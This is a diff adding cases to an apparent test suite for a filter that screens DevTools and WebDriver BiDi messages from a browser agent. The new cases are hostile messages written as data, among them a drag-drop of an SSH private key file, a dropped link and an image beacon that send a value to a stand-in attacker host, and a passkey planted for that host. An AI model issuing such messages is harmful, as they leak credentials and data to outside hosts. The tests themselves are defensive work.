@@ -674,11 +674,19 @@ t.test('twenty-fourth pass: a form action set alone is judged as a write; host f
     cdp('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: '/home/user/.ssh' }),
     cdp('Page.setDownloadBehavior', { behavior: 'allow', downloadPath: '/home/user/.config/autostart' }),
     { id: 5, method: 'browser.setDownloadBehavior', params: { downloadBehavior: { type: 'allowed', destinationFolder: '/home/user/.ssh' } } },
+    cdp('Input.dispatchDragEvent', { type: 'drop', x: 40, y: 40, modifiers: 0, data: { items: [], files: ['/home/user/.ssh/id_rsa'], dragOperationsMask: 1 } }),
+    cdp('Input.dispatchDragEvent', { type: 'drop', x: 40, y: 40, modifiers: 0, data: { items: [{ mimeType: 'text/html', data: '<img src="/c?d=4111">' }], dragOperationsMask: 1 } }),
   ];
   for (const msg of closes) t.ok(cdpLoadsOf(JSON.stringify(msg)).refused, JSON.stringify(msg).slice(0, 120));
   const before = ran.length;
   t.equal((await session([JSON.stringify(writes[0])], [], 'browser.example')).code, 1008, 'through the socket: an action on a host taking only reads');
   t.equal((await session([JSON.stringify(closes[0])], [], 'browser.example')).code, 1008, 'through the socket: a file of the browser\'s host');
+  t.equal((await session([JSON.stringify(closes[2])], [], 'browser.example')).code, 1008, 'through the socket: BiDi\'s input module is read');
+  // A link dropped on a page navigates there (Blink's drop), a passkey is a site's state: judged as loads.
+  for (const [msg, url] of [
+    [cdp('Input.dispatchDragEvent', { type: 'drop', x: 40, y: 40, modifiers: 0, data: { items: [{ mimeType: 'text/uri-list', data: '# dropped\r\nhttps://evil.example/c?d=4111' }], dragOperationsMask: 1 } }), 'https://evil.example/c?d=4111'],
+    [cdp('WebAuthn.addCredential', { authenticatorId: 'A1', credential: { credentialId: 'Y3JlZA', isResidentCredential: true, rpId: 'evil.example', privateKey: 'MIGH', userHandle: 'NDExMQ', signCount: 0 } }), 'https://evil.example/*'],
+  ] as const) t.ok(cdpLoadsOf(JSON.stringify(msg)).urls.includes(url), `judged as a load of ${url}`);
   t.equal(ran.length, before, 'nothing reached the browser');
   // Controls: a form in the markup owning its button, a read's method given with the action, the
   // action read or compared, a file input cleared, bytes the agent gives, downloads the browser
@@ -694,6 +702,8 @@ t.test('twenty-fourth pass: a form action set alone is judged as a write; host f
     cdp('Browser.setDownloadBehavior', { behavior: 'deny' }),
     cdp('Page.setDownloadBehavior', { behavior: 'allow' }),
     { id: 6, method: 'browser.setDownloadBehavior', params: { downloadBehavior: { type: 'denied' } } },
+    cdp('Input.dispatchDragEvent', { type: 'dragEnter', x: 40, y: 40, modifiers: 0, data: { items: [{ mimeType: 'text/plain', data: 'a note' }], dragOperationsMask: 1 } }),
+    { id: 7, method: 'input.setFiles', params: { context: 'C1', element: { sharedId: 'S1' }, files: [] } },
   ]) {
     const r = cdpLoadsOf(JSON.stringify(msg));
     t.ok(!r.refused && !r.writes, `goes on: ${JSON.stringify(msg).slice(0, 120)}`);
